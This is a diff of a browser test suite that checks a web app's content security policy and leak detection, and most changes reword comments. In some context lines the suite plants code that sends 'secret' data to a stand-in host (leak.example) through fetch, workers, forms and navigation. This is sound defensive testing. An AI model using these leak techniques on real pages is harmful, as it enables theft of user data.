@@ -1,5 +1,5 @@
-// Nothing leaves: all that a Chromium sends goes through a proxy here, whoever sends it; the same test finds leaks that are
-// planted, and the page's policy stops all that a policy can stop.
+// No data leaves the page: all traffic of Chromium goes through a proxy that records it, whatever its source. The same test
+// detects planted leaks, and the page's policy blocks everything that a policy can block.
 
 import assert from 'node:assert/strict';
 import { writeFileSync } from 'node:fs';
@@ -27,12 +27,12 @@ writeFileSync(LATER, ['text', ...TEXTS.map((text) => `"${text}, later"`)].join('
 let files;
 before(async () => { files = await siteFiles(); });
 
-// Chromium asks these of itself, whatever page is open: for updates, for a signed-in person, and, by a hash of their names,
-// what the fields of a form may mean. That none of the page's own requests goes there either is what `foreign` tells, which
-// gathers those of the page, its workers and its service worker.
+// Chromium itself requests these hosts, whatever page is open: for updates, for a signed-in user and, by a hash of their names,
+// for the meaning of form fields. `foreign` collects the requests of the page, its workers and its service worker, so it shows
+// that none of these goes to the same hosts.
 const CHROMIUMS_OWN = ['accounts.google.com', 'update.googleapis.com', 'content-autofill.googleapis.com', 'clients2.google.com'];
 
-/** What a session asked that is no file of the site at `address`. */
+/** Requests of a session other than for files of the site at `address`. */
 function leaks(seen, address) {
   const listed = new Set([SERVICE_WORKER, '', ...files.keys()]);
   const isListed = (url) => url.startsWith(address) && listed.has(url.slice(address.length));
@@ -40,8 +40,8 @@ function leaks(seen, address) {
 }
 
 /**
- * A test with a host that sends no headers unless `sends`, or the real one, a proxy that sees everything, and a page. No text
- * may be in a log or an address.
+ * A test with a host, a proxy that records everything, and a page. The host sends no headers unless `sends` is set; `real` uses
+ * the real server. No text may appear in a log or a URL.
  */
 function watched(name, body, { real = false, sends = false, prepare = (site) => site, ...options } = {}) {
   test(`trust: ${name}`, { timeout: LONG }, async () => {
@@ -52,10 +52,10 @@ function watched(name, body, { real = false, sends = false, prepare = (site) => 
     try {
       const opened = await openPage(browser, { address: host.address, serviceWorkers: 'allow', ...options });
       try {
-        // What leaves shall reach the proxy.
+        // Requests to other origins must reach the proxy.
         await opened.context.unrouteAll();
         const heard = overheard(opened.context);
-        // What is refused before the page listens is not in its list.
+        // Requests blocked before the page starts to listen would not be in its list.
         await opened.page.waitForFunction(() => Number(document.querySelector('#network-count')?.dataset.asked) > 0);
         const told = () => [...heard, ...proxy.seen.map(plain)];
         await body({ ...opened, host, proxy, told });
@@ -75,9 +75,11 @@ function watched(name, body, { real = false, sends = false, prepare = (site) => 
 
 const pathOf = (url) => new URL(url).pathname;
 
-/** The page has counted, and lists, each request that the proxy saw; there are more, which the browser's own store answered. */
+/**
+ * Checks that the page counts and lists each request that the proxy saw. It lists more, because the browser's cache answers some.
+ */
 async function countsAll(page, host, proxy) {
-  // The browser itself asks for the service worker's script.
+  // The browser itself requests the service worker's script.
   const sent = proxy.seen.filter((url) => url.startsWith(host.address) && !url.endsWith(SERVICE_WORKER)).map(pathOf);
   assert.ok(sent.length > 10, `${sent}`);
   await page.waitForFunction((n) => Number(document.querySelector('#network-count')?.dataset.asked) >= n, sent.length);
@@ -90,7 +92,7 @@ async function countsAll(page, host, proxy) {
   await page.keyboard.press('Escape');
 }
 
-/** Opens a file, embeds, selects, labels one by key, and gives what is exported. */
+/** Opens a file, embeds, selects, labels one text by key, and returns the export. */
 async function session(page, file) {
   await choose(page, [file]);
   await set(page, 'budget', 6);
@@ -107,7 +109,7 @@ for (const real of [true, false]) {
     await session(page, CSV);
     await countsAll(page, host, proxy);
     const rows = await picks(page);
-    // Without a network nothing is missed.
+    // Without a network everything still works.
     proxy.cut = true;
     const before = proxy.seen.length;
     await page.reload();
@@ -118,7 +120,7 @@ for (const real of [true, false]) {
     assert.deepEqual([leaks(proxy.seen, host.address), foreign], [[], []]);
     const asked = proxy.seen.slice(before).filter((url) => url.startsWith(host.address) && !url.endsWith(SERVICE_WORKER));
     assert.deepEqual(asked, [], 'nothing is asked any more, but whether there is a newer version');
-    // What the page counts is what was sent, and more: what came out of the browser's own store.
+    // The page counts all requests that were sent, and also those answered by the browser's cache.
     await page.click('#network');
     await page.waitForSelector('#network-dialog[open]');
     await page.waitForSelector('#network-dialog #origins li');
@@ -128,7 +130,7 @@ for (const real of [true, false]) {
   }, { real });
 }
 
-/** Every way out that a page has which the proxy can see; each to a path of its own. */
+/** Every way for a page to send data that the proxy can see, each with its own path. */
 function plant(leak) {
   const text = 'secret';
   const tries = {
@@ -151,7 +153,7 @@ function plant(leak) {
       form.submit();
     },
     module: () => import(`${leak}/module`),
-    // The one document of the site whose policy lets requests out, for a language model.
+    // The only document of the site whose policy allows requests to other origins, for a language model.
     endpoint: () => {
       const frame = document.createElement('iframe');
       frame.src = JSON.parse(document.querySelector('#assets').textContent).endpoint;
@@ -170,7 +172,7 @@ const inWorker = (site) => changed(site, named(site, 'worker-loader.js'), (sourc
   assert.ok(source.includes(begun));
   return source.replace(begun, `${begun} console.log('secret of a worker'); fetch('${LEAK}/worker', { mode: 'no-cors' }).catch(() => {});`);
 });
-/** At each message, since the first of its requests may come before the test lets anything out. */
+/** Leaks at each message, because the first request may come before the test has opened the way to the host. */
 const inServiceWorker = (site) => new Map(site).set(SERVICE_WORKER, Buffer.from(`${site.get(SERVICE_WORKER)}
 self.addEventListener('message', () => {
   console.log('secret of the service worker');
@@ -178,7 +180,7 @@ self.addEventListener('message', () => {
 });
 `));
 
-/** The ways by which something arrived. Of a WebSocket the proxy sees the tunnel that it asks for. */
+/** The ways by which a leak arrived. Of a WebSocket the proxy sees the request for a tunnel. */
 function arrived(proxy) {
   const ways = proxy.seen.map((url) => {
     if (url === `${LEAK.replace('http', 'https')}:80`) return 'socket';
@@ -187,7 +189,7 @@ function arrived(proxy) {
   return [...new Set(ways.filter(Boolean))].sort();
 }
 
-/** Waits until so many have arrived, or for ten seconds. */
+/** Waits until `count` leaks have arrived, for at most ten seconds. */
 async function arrivals(page, proxy, count) {
   for (let look = 0; look < 100 && arrived(proxy).length < count; look += 1) await page.waitForTimeout(100);
   return arrived(proxy);
@@ -200,13 +202,13 @@ watched('a planted leak is found where the policy is off', async ({ page, host, 
   assert.throws(() => assert.deepEqual(leaks(proxy.seen, host.address), []), 'the same check as of the session');
   await page.waitForFunction(() => Number(document.querySelector('#network-count')?.dataset.elsewhere) > 0);
   assert.match(await page.innerText('#privacy'), /Something went elsewhere/);
-  // What is in a log or an address is found by the same check as the texts.
+  // The check of the texts also finds secrets in logs and URLs.
   await page.evaluate(() => console.log('a', { secret: 'of the page' }));
   const betrays = betrayed(told(), ['secret']);
   for (const words of [`${LEAK}/image?secret`, 'of the page']) assert.ok(betrays.some((one) => one.includes(words)), `${words}: ${betrays}`);
 }, { bypassCSP: true, prepare: (site) => withoutTrustedTypes(site), serviceWorkers: 'block' });
 
-/** Without what `start.js` refuses. */
+/** The site without the Trusted Types policy that `start.js` enforces. */
 function withoutTrustedTypes(site) {
   return changed(site, 'index.html', (html) => html.replace(/<meta http-equiv[^>]*>/, ''));
 }
@@ -219,16 +221,16 @@ for (const real of [true, false]) {
     await arrivals(page, proxy, open.length);
     await page.waitForTimeout(2000);
     assert.deepEqual(arrived(proxy), open);
-    // The same check as of the session. The browser tries again what was cut off.
+    // The same check as for the session. The browser repeats requests that were cut off.
     const leaked = () => [...new Set(leaks(proxy.seen, host.address))];
     assert.deepEqual(leaked(), [`${LEAK}/endpoint`]);
     await page.click('#network');
     await page.waitForSelector('#network-dialog[open]');
     const refused = await page.innerText('#refused');
-    // Of a frame the browser tells the host alone.
+    // For a frame, the browser reports only the host.
     for (const way of stopped) assert.ok(refused.includes(`leak.example/${way === 'frame' ? ',' : way}`), `${way}: ${refused}`);
     assert.ok(!refused.includes('endpoint'), refused);
-    // A script can open another address in the tab.
+    // A script can navigate the tab to another URL.
     await page.evaluate((leak) => { location.href = `${leak}/tab`; }, LEAK);
     assert.deepEqual(await arrivals(page, proxy, 2), ['endpoint', 'tab']);
     assert.deepEqual(leaked(), [`${LEAK}/endpoint`, `${LEAK}/tab`]);
@@ -287,7 +289,7 @@ watched('no string becomes code, and no HTML that acts', async ({ page }) => {
   assert.deepEqual([html, script, worker, blob, policy], Array(5).fill('TypeError'));
   assert.deepEqual([plain, ran, cookies], ['TypeError', undefined, ''], 'also HTML that does nothing');
 
-  // In a task of the page's own: in a call by the debugger the policy may be lifted.
+  // In a task of the page itself, because the policy may not apply to code evaluated by the debugger.
   const strings = await page.evaluate(() => new Promise((resolve) => {
     const refused = (go) => { try { go(); return 'it ran'; } catch (error) { return error.name; } };
     setTimeout(() => {
@@ -301,7 +303,7 @@ watched('no string becomes code, and no HTML that acts', async ({ page }) => {
 watched('asking a language model opens one way, to it alone, and closes it', async ({ page, proxy, permit }) => {
   const [model, other] = [await startModel(), await startModel()];
   const sentTo = ({ origin }) => proxy.seen.filter((url) => url.startsWith(origin)).length;
-  /** Sends from the page, or from the document that may ask a language model. */
+  /** Sends a request from the page, or from the document that may ask a language model. */
   const send = (to, from) => page.evaluate(([address, from]) => {
     const window = from === 'frame' ? document.querySelector('iframe').contentWindow : globalThis;
     return window.fetch(address, { method: 'POST', body: '{"messages":[]}' }).then(() => 'sent', (error) => error.name);
